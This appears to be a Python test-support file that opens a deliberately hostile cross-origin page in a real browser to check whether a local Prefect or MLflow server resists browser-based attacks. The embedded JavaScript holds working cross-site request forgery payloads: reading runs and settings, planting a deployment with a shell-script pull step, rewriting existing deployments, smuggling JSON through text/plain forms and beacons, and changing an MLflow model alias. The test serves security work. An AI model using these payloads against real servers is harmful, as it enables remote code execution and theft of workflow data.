"""A page of another origin, open in a real browser, that tries to use a Prefect server."""

from __future__ import annotations

import json
import queue
import subprocess
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from tests.support.browser import BROWSER, FLAGS

# The most that a page can get: one that may reach this machine's network.
REACHING = "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"

PAGE = """<!doctype html><title>hostile</title>
<iframe name="sink"></iframe><iframe id="framed"></iframe>
<script>
const [server, ...deployments] = location.hash.slice(1).split(",");
const api = server + "/api", got = {};
const shell = [{"prefect.deployments.steps.run_shell_script": {script: "touch taken"}}];
const json = {"content-type": "application/json"}, plain = {"content-type": "text/plain"};
const attempt = async (name, work) => {
  const late = new Promise((_, no) => setTimeout(() => no("nothing came"), 8000));
  try { got[name] = await Promise.race([work(), late]); }
  catch (error) { got[name] = "refused: " + error; }
};
const read = async (method, path, body, headers = json, more = {}) => {
  const answer = await fetch(api + path,
    {method, headers, body: body && JSON.stringify(body), ...more});
  const text = await answer.text();
  if (!answer.ok) throw answer.status + " " + text;
  return text ? JSON.parse(text) : "done";
};
const listen = (path, protocols, first) => new Promise((yes, no) => {
  const socket = new WebSocket(api.replace("http", "ws") + path, protocols);
  socket.onopen = () => { first.forEach((one) => socket.send(JSON.stringify(one)));
                          if (!protocols.length) yes("open"); };
  socket.onmessage = (message) => yes(message.data);
  socket.onclose = (event) => no("closed " + event.code);
});
const image = (path) => new Promise((yes, no) => {
  const one = document.createElement("script");
  one.onload = () => yes("loaded"); one.onerror = () => no("not loaded");
  one.src = server + path; document.body.append(one);
});
const form = (path, type, name, value) => {
  const one = document.createElement("form");
  Object.assign(one, {method: "post", action: api + path, enctype: type, target: "sink"});
  const field = document.createElement("input");
  Object.assign(field, {name, value}); one.append(field); document.body.append(one); one.submit();
  return new Promise((yes) => setTimeout(() => yes("sent"), 1500));
};
const everything = async () => {
  await attempt("read the runs", () => read("POST", "/flow_runs/filter", {}));
  await attempt("read the deployments", () => read("POST", "/deployments/filter", {}));
  await attempt("read the settings", () => read("GET", "/admin/settings", null, {}));
  await attempt("make a work pool", () => read("POST", "/work_pools/",
    {name: "hostile", type: "process"}));
  await attempt("make a flow", () => read("POST", "/flows/", {name: "hostile"}));
  await attempt("make a deployment", () => read("POST", "/deployments/", {
    name: "hostile", flow_id: got["make a flow"].id, work_pool_name: "hostile",
    pull_steps: shell, entrypoint: "flow.py:flow"}));
  await attempt("start a run", () => read("POST",
    `/deployments/${got["make a deployment"].id}/create_flow_run`, {}));
  for (const one of deployments) {
    await attempt(`start a run of ${one} elsewhere`, () => read("POST",
      `/deployments/${one}/create_flow_run`, {parameters: {root: "/tmp", force: true}}));
    await attempt(`change the pull steps of ${one}`, () => read("PATCH",
      `/deployments/${one}`, {pull_steps: shell, path: "/tmp", entrypoint: "flow.py:flow"}));
    await fetch(api + `/deployments/${one}/create_flow_run`,
      {method: "POST", mode: "no-cors", body: new Blob(["{}"])}).catch(() => 0);
  }
  await attempt("make an automation", () => read("POST", "/automations/", {
    name: "hostile", trigger: {type: "event", posture: "Reactive", expect: ["*"], threshold: 1,
    within: 0}, actions: [{type: "do-nothing"}]}));
  await attempt("make a flow as text", () =>
    read("POST", "/flows/", {name: "hostile text"}, plain));
  await attempt("make a flow unseen", async () => (await fetch(api + "/flows/",
    {method: "POST", mode: "no-cors", body: JSON.stringify({name: "hostile unseen"})})).type);
  await attempt("make a flow by an untyped body", async () => (await fetch(api + "/flows/",
    {method: "POST", mode: "no-cors", body: new Blob([JSON.stringify({name: "hostile blob"})])}
    )).type);
  await attempt("make a flow by a beacon", async () => navigator.sendBeacon(api + "/flows/",
    new Blob([JSON.stringify({name: "hostile beacon"})], {type: "text/plain"})));
  await attempt("send a form", () => form("/flows/", "text/plain",
    '{"name": "hostile form", "labels": {"a', '": 1}}'));
  await attempt("with the user's cookies", () => read("POST", "/flow_runs/filter", {}, json,
    {credentials: "include"}));
  await attempt("events in", () => listen("/events/in", [], [{event: "hostile",
    occurred: new Date().toISOString(), id: crypto.randomUUID(),
    resource: {"prefect.resource.id": "hostile"}}]));
  await attempt("events out", () => listen("/events/out", ["prefect"],
    [{type: "auth", token: null}, {type: "filter", filter: {}}]));
  await attempt("logs out", () => listen("/logs/out", ["prefect"],
    [{type: "auth", token: null}, {type: "filter", filter: {}}]));
  await attempt("load it as a script", () => image("/ui-settings"));
  framed.src = server + "/";
  await new Promise((yes) => setTimeout(yes, 1500));
  got.frames = framed.contentWindow.length;
  await fetch("/got", {method: "POST", body: JSON.stringify(got)});
};
everything();
</script>"""


MLFLOW = """<!doctype html><title>hostile</title><script>
const server = location.hash.slice(1), got = {};
const json = {"content-type": "application/json"};
const alias = JSON.stringify({name: "guarded", alias: "champion", version: "1"});
const attempt = async (name, path, options) => {
  try {
    const answer = await fetch(server + path, {credentials: "include", ...options});
    got[name] = (answer.ok ? "" : "refused: ") + answer.status + " " + await answer.text();
  } catch (error) { got[name] = "refused: " + error; }
};
const everything = async () => {
  for (const api of ["/api/2.0/mlflow", "/ajax-api/2.0/mlflow"]) {
    const change = api + "/registered-models/alias";
    await attempt("change an alias at " + api, change,
      {method: "POST", headers: json, body: alias});
    await attempt("change an alias unasked at " + api, change, {method: "POST", body: alias});
    await fetch(server + change, {method: "POST", mode: "no-cors", credentials: "include",
      body: new Blob([alias])}).catch(() => 0);
    await attempt("read the models at " + api, api + "/registered-models/search", {});
  }
  await fetch("/got", {method: "POST", body: JSON.stringify(got)});
};
everything();
</script>"""


def attack(server: str, directory: Path, deployments: Sequence[str] = ()) -> dict[str, Any]:
    """What the page got from a Prefect server, by the name of each attempt.

    Args:
        server: The server's address, ``http://HOST:PORT``.
        directory: Where the browser may keep its profile.
        deployments: Ids that the page knows.
    """
    return _attack(PAGE, ",".join([server, *deployments]), directory)


def attack_mlflow(server: str, directory: Path) -> dict[str, Any]:
    """What a page got from an MLflow server whose model `guarded` it knows."""
    return _attack(MLFLOW, server, directory)


def _attack(page: str, server: str, directory: Path) -> dict[str, Any]:
    with _serving(page) as (address, said):
        command = [str(BROWSER), *FLAGS, REACHING, f"--user-data-dir={directory / 'profile'}",
                   "--remote-debugging-port=0", f"{address}/#{server}"]  # fmt: skip
        browser = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            got: dict[str, Any] = said.get(timeout=240)
            return got
        finally:
            browser.kill()
            browser.wait()


@contextmanager
def _serving(page: str) -> Iterator[tuple[str, queue.Queue[dict[str, Any]]]]:
    said: queue.Queue[dict[str, Any]] = queue.Queue()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(page.encode())

        def do_POST(self) -> None:
            said.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        try:
            yield f"http://127.0.0.1:{server.server_port}", said
        finally:
            server.shutdown()
